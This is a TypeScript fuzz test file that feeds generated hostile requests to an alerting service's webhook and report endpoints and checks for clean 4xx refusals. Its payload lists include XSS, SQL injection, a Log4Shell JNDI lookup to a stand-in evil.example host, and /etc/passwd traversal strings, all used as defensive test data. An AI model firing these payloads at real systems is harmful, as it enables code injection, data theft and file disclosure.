import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { parseConfigText } from '../../src/config/load.ts';
import type { FirebreakConfig } from '../../src/config/schema.ts';
import { CLOUDWATCH_KEY as CW_KEY, CLOUDWATCH_SNS_INTEGRATION, file } from '../config/integration-fixtures.ts';
import { createTestApp, createTestEnv, type TestApp, type TestEnv } from '../helpers/env.ts';

/*
 * Every signal receiver gets at least RUNS generated requests: structurally valid bodies with
 * hostile field values, arbitrary JSON, and bytes that are not JSON at all. Whatever arrives, the
 * answer is never a 5xx, a refusal is a 4xx in the receiver's documented error shape, the key is
 * never echoed, and the app still serves a valid request afterwards.
 *
 * SQLite only: 60,000 requests, about a third of them stored, run in about a minute on SQLite with
 * its group commit; on PostgreSQL an accepted event costs several times more (see
 * docs/benchmarks.md), which would take this file well past its time budget. What is
 * engine-specific in hostile input (NUL and unpaired surrogates, which PostgreSQL text cannot hold)
 * is refused at the HTTP edge before any store sees it, the same on both engines, and the receivers'
 * own suites run every stored case on PostgreSQL.
 *
 * FUZZ_RUNS and FUZZ_SEED (printed with any failure) reproduce or widen a run.
 */
const RUNS = Number(process.env.FUZZ_RUNS ?? 10_000);
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
/** Requests sent at once per property run: concurrent requests share SQLite commits, as in production. */
const BATCH = 25;
/** How deep generated JSON nests: far past the 64 levels a request may nest (MAX_NESTING). */
const DEEP_MAX = 1000;

const PD_KEY = '8c1f0d6e2b7a4e39a5d4c3b2a1f0e9d8';
const AM_KEY = '4d7e2a91c03b58f6e1a9d2c47b805f3e';
const GRAFANA_KEY = '9b3e61f0a7c24d58e0b1c6a3f9d27e45';
const DATADOG_KEY = 'e57a0c2d9f184b36a2c8d1e0f4b79a63';
/** CW_KEY is added by this suite: a generic integration that parses JSON embedded in a string (SNS style). */
const KEYS = [PD_KEY, AM_KEY, GRAFANA_KEY, DATADOG_KEY, CW_KEY];
const SERVICES = ['web', 'api', 'database', 'auth', 'cache', 'storage', 'checkout', 'work-orders', 'reporting', 'notifications', 'docs'];
const ERROR_CODES = new Set([
  'VALIDATION_FAILED', 'INVALID_JSON', 'BAD_REQUEST', 'PAYLOAD_TOO_LARGE', 'UNSUPPORTED_MEDIA_TYPE', 'UNAUTHENTICATED', 'FORBIDDEN',
  'CSRF_REJECTED', 'NOT_FOUND', 'CONFLICT', 'INVALID_TRANSITION', 'UNKNOWN_SERVICE', 'UNKNOWN_USER', 'RATE_LIMITED',
]);

// ---------------------------------------------------------------------------------------------
// Values

/** Strings that have broken parsers, stores, templates and terminals somewhere. */
const NASTY = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "'; DROP TABLE alerts; --", "1' OR '1'='1", '" OR ""="',
  '\u0000', 'a\u0000b', '\ud800', 'x\udfffy', '\udc00\ud800', '\u202e\u200b\ufeff\u2028\u2029', '\r\n\t\b\f\v', '\u001b[31mred\u001b[0m',
  '${jndi:ldap://evil.example/a}', '{{7*7}}', '<%= 7*7 %>', '../../../../etc/passwd', '%00%s%n%x', '__proto__', 'constructor', 'prototype',
  'toString', 'hasOwnProperty', '', ' ', ' \n\t ', 'null', 'undefined', 'NaN', '-0', '1e999', '💥🔥👩‍👩‍👧‍👦', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇', 'ǅ', '\u{10FFFF}', 'ﷺ',
  'SELECT pg_sleep(10)', "'); select sqlite_version(); --", '\\', '\\\\"', '\\u0000', '"', "'", '`', 'a'.repeat(255), 'a'.repeat(256), 'a'.repeat(1025),
];
/** Any UTF-16 code unit, control characters and unpaired surrogates included. */
const anyUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
/** Long text: up to past the 512 KiB body limits once JSON-escaped (\u0001 takes six bytes) or several are sent. */
const huge = fc.tuple(fc.constantFrom('A', 'é', '\u0001', '<', '💥', ' '), fc.integer({ min: 1000, max: 200_000 })).map(([c, n]) => c.repeat(n));
const hostile: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 6, arbitrary: fc.string({ unit: anyUnit, maxLength: 40 }) },
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);
/** Arrays nested `depth` deep, built without recursion. */
const nested = (depth: number, leaf: unknown = []): unknown => {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 ? { a: v } : [v];
  return v;
};
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(1e308, -1e308, 2 ** 53 + 1, -0, 0.1, 4e15, 8.64e15, -1),
  fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.integer({ min: 1, max: DEEP_MAX }).map((d) => nested(d)),
);
/** A field: mostly the valid value, sometimes hostile text, sometimes the wrong type. */
const fuzz = <T>(valid: fc.Arbitrary<T>, weight = 30): fc.Arbitrary<unknown> =>
  fc.oneof({ weight, arbitrary: valid }, { weight: 1, arbitrary: hostile }, { weight: 1, arbitrary: wrongType });
/** The same for the fields that take free text (summaries, descriptions, keys): now and then very long. */
const fuzzText = <T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> => fc.oneof({ weight: 60, arbitrary: fuzz(valid) }, { weight: 1, arbitrary: huge });
/** An optional field, absent `1/freq` of the time. */
const opt = <T>(a: fc.Arbitrary<T>, freq = 2) => fc.option(a, { nil: undefined, freq });
/** A required field, missing now and then. */
const req = <T>(a: fc.Arbitrary<T>) => fc.option(a, { nil: undefined, freq: 60 });
/** Valid text: printable ASCII, any Unicode (paired surrogates only), words. */
/** URLs, from plain to hostile (cheaper to generate than fc.webUrl). */
const url = fc.oneof(
  fc.constantFrom('https://prometheus.example.org/graph?g0.expr=up%3D%3D0', 'http://grafana:3000/d/abc?orgId=1', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', '//evil.example', 'http://[::1]:99999/', 'https://例え.jp/パス'),
  fc.string({ maxLength: 30 }).map((s) => `https://example.org/${s}`),
);
const text = fc.oneof(
  { weight: 4, arbitrary: fc.string({ minLength: 1, maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }) },
  { weight: 1, arbitrary: fc.lorem({ maxCount: 8 }) },
);
/** Fields a sender adds that no schema knows, prototype-polluting names included. */
const extras = fc.dictionary(
  fc.oneof({ weight: 8, arbitrary: fc.string({ maxLength: 12 }) }, { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '') }),
  fc.oneof(fc.jsonValue({ maxDepth: 2 }), hostile, wrongType),
  { maxKeys: 3 },
);
const withExtras = <T extends object>(a: fc.Arbitrary<T>) => fc.tuple(a, fc.option(extras, { nil: undefined, freq: 6 })).map(([v, x]) => (x === undefined ? v : { ...x, ...v }));

// ---------------------------------------------------------------------------------------------
// Bodies

interface Body {
  payload: string | Buffer;
}
const json = (v: unknown): Body => ({ payload: JSON.stringify(v) ?? '' });
/** Texts that are not JSON, or are JSON that parsers and stores handle badly. */
const RAW = [
  '', ' ', '{', '[', '{"a":1,}', "{'a':1}", '{"a":1}{"b":2}', 'null', '""', '0', 'true', '-0', '1e999', '[]', '{}', '\ufeff{}', '{"a":"\\ud800"}',
  '{"a":"\\u0000"}', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"a":123456789012345678901234567890}',
  '{"a":1e-400}', '{"a":NaN}', '{"a":Infinity}', '{"a":undefined}', '<?xml version="1.0"?><a/>', 'routing_key=x&event_action=trigger',
  '{"a":"\\uZZZZ"}', '{"a":"\u0001"}', '{"a":"\\"}', '\u0000', '\ud800', '{"a":"\ud800"}',
];
const raw: fc.Arbitrary<Body> = fc.oneof(
  fc.constantFrom(...RAW).map((payload) => ({ payload })),
  fc.uint8Array({ maxLength: 300 }).map((b) => ({ payload: Buffer.from(b) })),
  fc.string({ unit: anyUnit, maxLength: 200 }).map((payload) => ({ payload })),
  fc.integer({ min: 1, max: DEEP_MAX }).map((d) => ({ payload: '['.repeat(d) + ']'.repeat(d) })),
);
/** A valid-shaped body as JSON text, cut short or with a byte changed now and then. */
const mutated = (structured: fc.Arbitrary<unknown>): fc.Arbitrary<Body> =>
  fc.tuple(structured, fc.nat(), fc.constantFrom('cut', 'flip', 'dup')).map(([v, at, how]) => {
    const s = JSON.stringify(v) ?? '';
    const i = s.length ? at % s.length : 0;
    return { payload: how === 'cut' ? s.slice(0, i) : how === 'flip' ? s.slice(0, i) + String.fromCharCode((s.charCodeAt(i) + 1) % 128) + s.slice(i + 1) : s.slice(0, i) + s.slice(i - 1) };
  });
const bodyOf = (structured: fc.Arbitrary<unknown>): fc.Arbitrary<Body> =>
  fc.oneof(
    { weight: 30, arbitrary: structured.map(json) },
    { weight: 2, arbitrary: fc.jsonValue().map(json) },
    { weight: 1, arbitrary: fc.anything().map(json) },
    { weight: 1, arbitrary: mutated(structured) },
    { weight: 2, arbitrary: raw },
  );

// ---------------------------------------------------------------------------------------------
// Requests

interface Req {
  url: string;
  headers: Record<string, string>;
  payload: string | Buffer;
  remoteAddress?: string;
}
const CONTENT_TYPES = ['application/json; charset=utf-8', 'text/plain', 'text/plain; charset=utf-8', 'application/x-www-form-urlencoded', 'application/octet-stream', 'application/json; charset=iso-8859-1', 'multipart/form-data; boundary=x', 'APPLICATION/JSON', 'application/jsonx', ''];
const contentType = fc.oneof({ weight: 30, arbitrary: fc.constant('application/json') }, { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) }, { weight: 1, arbitrary: fc.constant(null) });
const withContentType = (headers: Record<string, string>, ct: string | null) => (ct === null ? headers : { ...headers, 'content-type': ct });
/** The integration key as a Bearer token, mostly; otherwise missing, wrong or malformed credentials. */
const bearer = (key: string) =>
  fc.oneof(
    { weight: 30, arbitrary: fc.constant({ authorization: `Bearer ${key}` }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Record<string, string>>(
        {},
        { authorization: '' },
        { authorization: 'Bearer' },
        { authorization: 'Bearer wrong-key-0000000000000000' },
        { authorization: `Basic ${key}` },
        { authorization: `bearer \t ${key}  ` },
        { authorization: `Bearer ${key} ${key}` },
        { authorization: `Bearer ${key.slice(1)}` },
        { authorization: `Bearer ${PD_KEY === key ? AM_KEY : PD_KEY}` },
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 60 }).filter((s) => /^[\x20-\x7e]*$/.test(s)).map((s) => ({ authorization: `Bearer ${s}` })) },
  );
/**
 * The route's own URL, mostly; otherwise another integration's id or an id no route accepts.
 * Malformed percent-encodings (`%ZZ`) have tests of their own at the end.
 */
const integrationUrl = (id: string, kind: string) =>
  fc.oneof(
    { weight: 40, arbitrary: fc.constant(`/api/v1/integrations/${id}/${kind}`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        ...['database-monitoring', 'prometheus', 'grafana', 'datadog', 'cloudwatch', 'nope', '%00', '%F0%9F%92%A5', '..%2F..%2Fhealthz', 'a'.repeat(64), '%3Cscript%3E', '%20'].map(
          (x) => `/api/v1/integrations/${x}/${kind}`,
        ),
      ),
    },
  );

/** A time as senders write it: mostly recent past, sometimes far off, malformed or of the wrong type. */
const timestampOf = (now: number, valid: fc.Arbitrary<string>) =>
  fc.oneof(
    { weight: 12, arbitrary: valid },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '9999-12-31T23:59:59Z', '+275760-09-13T00:00:00.000Z', '275760-09-13T00:00:00Z', '-271821-04-20T00:00:00Z', '0001-01-01T00:00:00Z',
        '0000-00-00T00:00:00Z', '1970-01-01T00:00:00Z', '2026-02-30T25:61:61Z', '2026-06-01', '2026-06-01T02:13:00+14:00', '2026-06-01T02:13:00.123456789-12:00',
        '2026-06-01T02:13:00.000+99:99', '2026-06-01T02:13:00', '2026-06-01 02:13:00Z', 'yesterday', 'March 7', '1e12', '',
      ),
    },
    { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((d) => d.toISOString()) },
    { weight: 1, arbitrary: fc.integer({ min: now, max: now + 10 * 365 * 86_400_000 }).map((t) => new Date(t).toISOString()) },
    { weight: 1, arbitrary: hostile },
    { weight: 1, arbitrary: wrongType },
  );

const recentIso = (now: number) => fc.integer({ min: -30 * 86_400_000, max: 0 }).map((d) => new Date(now + d).toISOString());
/** Dedup keys and fingerprints: a few shared ones (repeats, acks, resolves) and many new ones. */
const dedupKey = fc.oneof(fc.constantFrom('k-1', 'k-2', 'k-3', 'db/replica-lag', 'fp-0001'), fc.string({ minLength: 1, maxLength: 40 }), fc.string({ unit: fc.constantFrom(...'0123456789abcdef'), minLength: 16, maxLength: 16 }));

function eventsRequests(now: number): fc.Arbitrary<Req> {
  const routingKey = fc.oneof({ weight: 30, arbitrary: fc.constant(PD_KEY) }, { weight: 1, arbitrary: fc.constantFrom(AM_KEY, 'nope', '', PD_KEY.toUpperCase(), ` ${PD_KEY}`) }, { weight: 1, arbitrary: hostile }, { weight: 1, arbitrary: wrongType });
  const payload = withExtras(
    fc.record({
      summary: req(fuzzText(text)),
      source: req(fuzz(text)),
      severity: req(fuzz(fc.constantFrom('critical', 'error', 'warning', 'info'))),
      timestamp: opt(timestampOf(now, recentIso(now).map((s) => s.replace('Z', '+0000')))),
      component: opt(fuzz(text)),
      group: opt(fuzz(text)),
      class: opt(fuzz(text)),
      custom_details: opt(fc.oneof(fc.jsonValue({ maxDepth: 3 }), hostile, wrongType)),
    }),
  );
  const event = withExtras(
    fc.record({
      routing_key: req(routingKey),
      event_action: req(fuzz(fc.constantFrom('trigger', 'trigger', 'trigger', 'acknowledge', 'resolve'))),
      dedup_key: opt(fuzzText(dedupKey), 8),
      payload: req(fc.oneof({ weight: 12, arbitrary: payload }, { weight: 1, arbitrary: wrongType })),
      images: opt(fc.oneof({ weight: 8, arbitrary: fc.array(fc.record({ src: fuzz(url), href: opt(fuzz(url)), alt: opt(fuzz(text)) }), { maxLength: 3 }) }, { weight: 1, arbitrary: wrongType }), 4),
      links: opt(fc.oneof({ weight: 8, arbitrary: fc.array(fc.record({ href: fuzz(url), text: opt(fuzz(text)) }), { maxLength: 3 }) }, { weight: 1, arbitrary: wrongType }), 4),
      client: opt(fuzz(text), 4),
      client_url: opt(fuzz(url), 4),
    }),
  );
  return fc.tuple(bodyOf(event), contentType).map(([b, ct]) => ({ url: '/v2/enqueue', headers: withContentType({}, ct), payload: b.payload }));
}

function changeRequests(now: number): fc.Arbitrary<Req> {
  const routingKey = fc.oneof({ weight: 30, arbitrary: fc.constant(PD_KEY) }, { weight: 1, arbitrary: fc.constantFrom(AM_KEY, 'nope', '') }, { weight: 1, arbitrary: hostile }, { weight: 1, arbitrary: wrongType });
  const change = withExtras(
    fc.record({
      routing_key: req(routingKey),
      payload: req(
        fc.oneof(
          { weight: 12, arbitrary: withExtras(fc.record({ summary: req(fuzzText(text)), source: opt(fuzz(text)), timestamp: opt(timestampOf(now, recentIso(now))), custom_details: opt(fc.oneof(fc.jsonValue({ maxDepth: 3 }), hostile, wrongType)) })) },
          { weight: 1, arbitrary: wrongType },
        ),
      ),
      links: opt(fc.oneof({ weight: 8, arbitrary: fc.array(fc.record({ href: fuzz(url), text: opt(fuzz(text)) }), { maxLength: 3 }) }, { weight: 1, arbitrary: wrongType }), 3),
    }),
  );
  return fc.tuple(bodyOf(change), contentType).map(([b, ct]) => ({ url: '/v2/change/enqueue', headers: withContentType({}, ct), payload: b.payload }));
}

/** Label sets as Prometheus and Grafana send them, with the labels Firebreak reads fuzzed. */
const labels = fc
  .tuple(
    fc.record({
      alertname: opt(fuzz(fc.constantFrom('HighErrorRate', 'DiskFull', 'InstanceDown')), 8),
      service: opt(fuzz(fc.constantFrom(...SERVICES, 'not-a-service', 'Checkout', ' checkout'))),
      severity: opt(fuzz(fc.constantFrom('critical', 'page', 'error', 'warning', 'info', 'default', 'none', '__proto__', 'constructor', 'toString'))),
      instance: opt(fuzz(text)),
      job: opt(fuzz(text)),
    }),
    fc.dictionary(fc.oneof({ weight: 100, arbitrary: fc.string({ maxLength: 12 }) }, { weight: 1, arbitrary: fc.constantFrom('__proto__', 'constructor') }), fuzz(text), { maxKeys: 3 }),
  )
  .map(([known, other]) => ({ ...other, ...known }));
const annotations = withExtras(fc.record({ summary: opt(fuzzText(text)), description: opt(fuzzText(text)), runbook_url: opt(fuzz(url)) }));
const labelMap = fc.dictionary(fc.string({ maxLength: 12 }), fuzz(text, 12), { maxKeys: 4 });
const ZERO = '0001-01-01T00:00:00Z';

function labelledAlert(now: number, extra: Record<string, fc.Arbitrary<unknown>> = {}) {
  const when = timestampOf(now, recentIso(now));
  return withExtras(
    fc.record({
      status: req(fuzz(fc.constantFrom('firing', 'firing', 'resolved'))),
      labels: req(fc.oneof({ weight: 12, arbitrary: labels }, { weight: 1, arbitrary: wrongType })),
      annotations: opt(fc.oneof({ weight: 12, arbitrary: annotations }, { weight: 1, arbitrary: wrongType }), 5),
      startsAt: req(when),
      endsAt: opt(fc.oneof({ weight: 4, arbitrary: fc.constant(ZERO) }, { weight: 1, arbitrary: when })),
      generatorURL: opt(fuzz(url)),
      fingerprint: req(fuzzText(dedupKey)),
      ...extra,
    }),
  );
}
const notification = (version: string, alert: fc.Arbitrary<unknown>, extra: Record<string, fc.Arbitrary<unknown>> = {}) =>
  withExtras(
    fc.record({
      version: req(fuzz(fc.constant(version), 16)),
      groupKey: req(fuzzText(text)),
      truncatedAlerts: opt(fuzz(fc.nat(10)), 4),
      status: req(fuzz(fc.constantFrom('firing', 'resolved'))),
      receiver: req(fuzz(fc.constantFrom('oncall', 'payments\\-oncall', 'team-x', ''))),
      groupLabels: opt(fc.oneof({ weight: 8, arbitrary: labelMap }, { weight: 1, arbitrary: wrongType })),
      commonLabels: opt(fc.oneof({ weight: 8, arbitrary: labelMap }, { weight: 1, arbitrary: wrongType })),
      commonAnnotations: opt(fc.oneof({ weight: 8, arbitrary: labelMap }, { weight: 1, arbitrary: wrongType })),
      externalURL: opt(fuzz(url)),
      alerts: req(fc.oneof({ weight: 14, arbitrary: fc.array(alert, { maxLength: 3 }) }, { weight: 1, arbitrary: wrongType })),
      ...extra,
    }),
  );

function alertmanagerRequests(now: number): fc.Arbitrary<Req> {
  return fc
    .tuple(bodyOf(notification('4', labelledAlert(now))), contentType, bearer(AM_KEY), integrationUrl('prometheus', 'alertmanager'))
    .map(([b, ct, auth, url]) => ({ url, headers: withContentType(auth, ct), payload: b.payload }));
}

function grafanaRequests(now: number): fc.Arbitrary<Req> {
  const alert = labelledAlert(now, {
    annotations: opt(fc.oneof({ weight: 12, arbitrary: annotations }, { weight: 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: wrongType }), 5),
    silenceURL: opt(fuzz(url)),
    dashboardURL: opt(fuzz(url)),
    panelURL: opt(fuzz(url)),
    values: opt(fc.oneof(fc.dictionary(fc.string({ maxLength: 4 }), fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null))), fc.constant(null), wrongType)),
    valueString: opt(fuzz(text)),
    imageURL: opt(fuzz(url)),
    ruleUID: opt(fuzz(text)),
  });
  const body = notification('1', alert, { orgId: opt(fuzz(fc.integer())), title: opt(fuzz(text)), state: opt(fuzz(fc.constantFrom('alerting', 'ok'))), message: opt(fuzz(text)) });
  return fc.tuple(bodyOf(body), contentType, bearer(GRAFANA_KEY), integrationUrl('grafana', 'grafana')).map(([b, ct, auth, url]) => ({ url, headers: withContentType(auth, ct), payload: b.payload }));
}

function webhookRequests(now: number): fc.Arbitrary<Req> {
  const date = fc.oneof(
    { weight: 3, arbitrary: timestampOf(now, recentIso(now)) },
    { weight: 1, arbitrary: fc.integer({ min: -1e12, max: 1e16 }) },
    { weight: 1, arbitrary: fc.constantFrom(now / 1000, now, now + 1e9, 1e11 - 1, 1e11, 8.64e15, 8.64e15 + 1, 1e300, -1e300, 0, -0, 0.5) },
  );
  // The example's Datadog mapping: id, title, transition, priority, tags.service, date.
  const datadog = withExtras(
    fc.record({
      id: req(fuzz(dedupKey)),
      title: req(fuzzText(text)),
      transition: req(fuzz(fc.constantFrom('Triggered', 'Re-Triggered', 'Warn', 'Recovered', 'No Data'))),
      priority: opt(fuzz(fc.constantFrom('P1', 'P2', 'P3', 'normal'))),
      tags: opt(fc.oneof({ weight: 8, arbitrary: withExtras(fc.record({ service: opt(fuzz(fc.constantFrom(...SERVICES, 'nope'))) })) }, { weight: 1, arbitrary: wrongType })),
      date: opt(date),
    }),
  );
  // The CloudWatch mapping reads fields inside a JSON document carried as a string.
  const alarm = withExtras(
    fc.record({
      AlarmName: req(fuzzText(text)),
      AlarmArn: req(fuzz(dedupKey)),
      NewStateValue: req(fuzz(fc.constantFrom('ALARM', 'OK', 'INSUFFICIENT_DATA'))),
      StateChangeTime: opt(timestampOf(now, recentIso(now))),
      Trigger: opt(fc.record({ Namespace: opt(fuzz(text)), Dimensions: opt(fc.oneof(fc.array(fc.record({ value: fuzz(text) }), { maxLength: 2 }), wrongType)) })),
    }),
  );
  const message = fc.oneof({ weight: 8, arbitrary: alarm.map((a) => JSON.stringify(a)) }, { weight: 1, arbitrary: hostile }, { weight: 1, arbitrary: raw.map((b) => String(b.payload)) }, { weight: 1, arbitrary: wrongType });
  const sns = withExtras(fc.record({ Type: opt(fc.constant('Notification')), MessageId: opt(fc.uuid()), Message: req(message) }));
  const oneOrMany = <T>(a: fc.Arbitrary<T>) => fc.oneof({ weight: 3, arbitrary: a }, { weight: 1, arbitrary: fc.array(a, { maxLength: 5 }) });
  const datadogReq = fc
    .tuple(bodyOf(oneOrMany(datadog)), contentType, fc.boolean(), bearer(DATADOG_KEY), integrationUrl('datadog', 'webhook'))
    .map(([b, ct, inQuery, auth, url]) =>
      // Senders that cannot set headers put the key in the query string.
      inQuery && auth.authorization?.startsWith('Bearer ') ? { url: `${url}?key=${encodeURIComponent(auth.authorization.slice(7))}`, headers: withContentType({}, ct), payload: b.payload } : { url, headers: withContentType(auth, ct), payload: b.payload },
    );
  // SNS posts JSON as text/plain.
  const snsReq = fc
    .tuple(bodyOf(oneOrMany(sns)), fc.oneof(contentType, fc.constant('text/plain; charset=UTF-8')), bearer(CW_KEY), integrationUrl('cloudwatch', 'webhook'))
    .map(([b, ct, auth, url]) => ({ url, headers: withContentType(auth, ct), payload: b.payload }));
  return fc.oneof(datadogReq, snsReq);
}

function reportRequests(viewerCookie: Record<string, string>): fc.Arbitrary<Req> {
  const report = withExtras(
    fc.record({
      service: req(fuzz(fc.constantFrom(...SERVICES, 'not-a-service', 'a'.repeat(64)))),
      description: req(fuzzText(fc.oneof({ weight: 10, arbitrary: text }, { weight: 1, arbitrary: fc.constantFrom('a'.repeat(5000), 'a'.repeat(5001)) }))),
      contact: opt(fuzz(fc.oneof({ weight: 10, arbitrary: fc.constantFrom('ops@example.org', 'a@b', '+49 30 1234567', '<a@b.c>', 'x') }, { weight: 1, arbitrary: fc.constant('x'.repeat(201)) }))),
    }),
  );
  const ip = fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255), fc.nat(255), fc.integer({ min: 1, max: 254 })).map((p) => p.join('.'));
  // Signed in (the session cookie), or the public form; now and then from another site.
  type Who = { url: string; headers: Record<string, string> };
  const who: fc.Arbitrary<Who> = fc.oneof(
    { weight: 10, arbitrary: fc.constant<Who>({ url: '/api/v1/reports', headers: viewerCookie }) },
    { weight: 10, arbitrary: fc.constant<Who>({ url: '/api/v1/reports/anonymous', headers: {} }) },
    { weight: 1, arbitrary: fc.constantFrom<Who>({ url: '/api/v1/reports', headers: { ...viewerCookie, origin: 'https://evil.example' } }, { url: '/api/v1/reports', headers: { ...viewerCookie, 'sec-fetch-site': 'cross-site' } }, { url: '/api/v1/reports', headers: {} }, { url: '/api/v1/reports', headers: { cookie: 'firebreak_session=forged' } }, { url: '/api/v1/reports', headers: { authorization: 'Bearer fbk_forged' } }) },
  );
  return fc.tuple(bodyOf(report), contentType, who, ip).map(([b, ct, w, remoteAddress]) => ({ url: w.url, headers: withContentType(w.headers, ct), payload: b.payload, remoteAddress }));
}

// ---------------------------------------------------------------------------------------------
// Checks

type Outcome = 'accepted' | 'refused' | 'unauthorised' | 'throttled';

/** Why a request was refused, in a word or two: the run's diagnostics show what the generators hit most. */
function reason(res: LightMyRequestResponse): string {
  try {
    const body = res.json();
    const text = String(body.errors?.[0] ?? `${body.error?.code} ${body.error?.message}`);
    return `${res.statusCode} ${text.replace(/\d+/g, 'N').slice(0, 70)}`;
  } catch {
    return `${res.statusCode} (not JSON)`;
  }
}

const describeReq = (r: Req) => {
  const p = typeof r.payload === 'string' ? r.payload : `<bytes ${r.payload.toString('hex')}>`;
  return `POST ${r.url} headers=${JSON.stringify(r.headers)} body(${p.length} chars)=${JSON.stringify(p.length > 600 ? `${p.slice(0, 600)}…` : p)}`;
};

/** The PagerDuty answer: 202 success, or a 4xx `{ status, message, errors }`. */
function checkPd(res: LightMyRequestResponse, accepted: string): Outcome {
  assert.ok(res.statusCode < 500, `5xx: ${res.statusCode} ${res.body}`);
  assert.match(String(res.headers['content-type']), /^application\/json/);
  const body = res.json();
  if (res.statusCode === 202) {
    assert.equal(body.status, 'success');
    assert.equal(body.message, accepted);
    return 'accepted';
  }
  assert.ok(res.statusCode >= 400 && res.statusCode < 500, `unexpected status ${res.statusCode}: ${res.body}`);
  assert.deepEqual(Object.keys(body).sort(), ['errors', 'message', 'status'], res.body);
  assert.equal(body.status, res.statusCode === 429 ? 'throttle event' : 'invalid event');
  assert.equal(typeof body.message, 'string');
  assert.ok(Array.isArray(body.errors) && body.errors.length > 0 && body.errors.every((e: unknown) => typeof e === 'string'), res.body);
  return res.statusCode === 429 ? 'throttled' : res.statusCode === 404 ? 'unauthorised' : 'refused';
}

/** Firebreak's own answer: the success body, or a 4xx `{ error: { code, message, details } }`. */
function checkApi(res: LightMyRequestResponse, success: (status: number, body: Record<string, unknown>) => void): Outcome {
  assert.ok(res.statusCode < 500, `5xx: ${res.statusCode} ${res.body}`);
  assert.match(String(res.headers['content-type']), /^application\/json/);
  const body = res.json();
  if (res.statusCode < 300) {
    success(res.statusCode, body);
    return 'accepted';
  }
  assert.ok(res.statusCode >= 400 && res.statusCode < 500, `unexpected status ${res.statusCode}: ${res.body}`);
  assert.deepEqual(Object.keys(body), ['error'], res.body);
  assert.ok(ERROR_CODES.has(body.error.code), `unknown error code: ${res.body}`);
  assert.equal(typeof body.error.message, 'string');
  assert.ok(body.error.details !== null && typeof body.error.details === 'object', res.body);
  if (res.statusCode === 429) return 'throttled';
  return [401, 403, 404].includes(res.statusCode) ? 'unauthorised' : 'refused';
}
const alertsOk = (status: number, body: Record<string, unknown>) => {
  assert.equal(status, 200);
  assert.equal(body.status, 'success');
  assert.ok(Number.isInteger(body.alerts));
};

// ---------------------------------------------------------------------------------------------

interface Endpoint {
  name: string;
  requests: fc.Arbitrary<Req>;
  check(res: LightMyRequestResponse): Outcome;
  /** A request that must succeed once the fuzzing is over. */
  valid(): Req;
}

describe('signal receivers under fuzzed input [sqlite]', () => {
  let env: TestEnv;
  let t: TestApp;
  let endpoints: Endpoint[];

  before(async () => {
    env = await createTestEnv('sqlite', import.meta.url);
    const extra = parseConfigText(file(CLOUDWATCH_SNS_INTEGRATION), {});
    assert.ok(extra.ok, JSON.stringify(extra));
    const base = env.config.current;
    // Limits high enough that the run is about validation, not throttling (tens of thousands of
    // requests in a minute of test time); a 429 would still be a correct answer.
    env.config.current = {
      ...base,
      integrations: [...base.integrations, ...extra.config.integrations].map((i) => ({ ...i, rate_limit: { per_minute: 1_000_000 } })),
      reports: { ...base.reports, anonymous: { enabled: true, rate_limit: { per_minute: 10_000 } } },
    } as FirebreakConfig;
    // Durability is not what this suite is about (restart-burst.test.ts is): without a sync at every
    // commit the same code paths run several times faster.
    await sql`pragma synchronous = OFF`.execute(env.db.kysely);
    t = await createTestApp(env);
    const now = env.clock.now();
    const recent = new Date(now - 60_000).toISOString();
    const bearerJson = (key: string) => ({ authorization: `Bearer ${key}`, 'content-type': 'application/json' });
    /** One firing alert in the notification shape Alertmanager (version 4) and Grafana (version 1) share. */
    const firingNotification = (url: string, key: string, version: string) => ({
      url,
      headers: bearerJson(key),
      payload: JSON.stringify({ version, groupKey: 'g', status: 'firing', receiver: 'r', alerts: [{ status: 'firing', labels: { alertname: 'After' }, startsAt: recent, fingerprint: 'after-fuzz' }] }),
    });
    endpoints = [
      {
        name: 'Events API v2 POST /v2/enqueue',
        requests: eventsRequests(now),
        check: (res) => checkPd(res, 'Event processed'),
        valid: () => ({ url: '/v2/enqueue', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ routing_key: PD_KEY, event_action: 'trigger', dedup_key: 'after-fuzz', payload: { summary: 'still up', source: 'fuzz', severity: 'error' } }) }),
      },
      {
        name: 'Events API v2 POST /v2/change/enqueue',
        requests: changeRequests(now),
        check: (res) => checkPd(res, 'Change event processed'),
        valid: () => ({ url: '/v2/change/enqueue', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ routing_key: PD_KEY, payload: { summary: 'Deployed v2' } }) }),
      },
      {
        name: 'Alertmanager webhook',
        requests: alertmanagerRequests(now),
        check: (res) => checkApi(res, alertsOk),
        valid: () => firingNotification('/api/v1/integrations/prometheus/alertmanager', AM_KEY, '4'),
      },
      {
